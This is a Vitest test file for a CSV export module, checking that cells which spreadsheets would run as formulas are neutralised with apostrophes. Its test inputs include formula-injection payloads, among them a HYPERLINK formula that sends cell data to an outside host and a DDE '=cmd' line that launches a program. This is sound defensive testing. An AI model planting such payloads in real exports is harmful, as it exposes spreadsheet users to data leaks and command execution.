import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvLine, csvTable } from '../../src/csv.ts';

/** What a spreadsheet may take for a formula, wherever it begins a cell. */
const RUNS = /^[\s\p{Cf}]*[=+\-@|＝＋－＠]/u;

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+cmd',
  '@SUM(A1)',
  '|calc',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060 \u200d=1+1',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a;b;\u200b@SUM(A1);c',
  '"=1+1',
  '=HYPERLINK("http://example.org?"&A1,"x")',
  "=cmd|' /C calc'!A0",
];

describe('a text that a spreadsheet would run', () => {
  it.each(FORMULAS)('%j begins no cell, whichever sign separates them', (text) => {
    const line = csvLine(['first', text, 'last']);
    for (const delimiter of [',', ';', '\t']) {
      const { data } = Papa.parse<string[]>(line, { delimiter });
      for (const cell of data.flat()) expect(cell).not.toMatch(RUNS);
    }
  });

  it('is one cell, with nothing but apostrophes added', () => {
    for (const text of FORMULAS) {
      const { data } = Papa.parse<string[]>(csvLine(['first', text, 'last']), { newline: '\r\n' });
      expect(data[0]).toHaveLength(3);
      expect(data[0]?.[1]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    }
  });
});

describe('what is no formula stays as it is', () => {
  it.each([
    [-5, '-5'],
    [1e-7, '1e-7'],
    ['-5', '-5'],
    ['+43', '+43'],
    ['-1.5e-3', '-1.5e-3'],
    [true, 'true'],
    [null, ''],
    ['2026-03-02T07:41:00.000Z', '2026-03-02T07:41:00.000Z'],
    ['Ada’s Apple Watch', 'Ada’s Apple Watch'],
    ['a, b', '"a, b"'],
    ['a; b', '"a; b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
  ])('%j → %s', (value, written) => {
    expect(csvLine([value])).toBe(`${written}\r\n`);
  });
});

it('a table has the names of its first row, and lists as JSON', () => {
  expect(
    csvTable([
      { a: 1, b: ['x'] },
      { b: null, a: 2 },
    ]),
  ).toEqual(['a,b\r\n', '1,"[""x""]"\r\n', '2,\r\n']);
  expect(csvTable([])).toEqual([]);
});
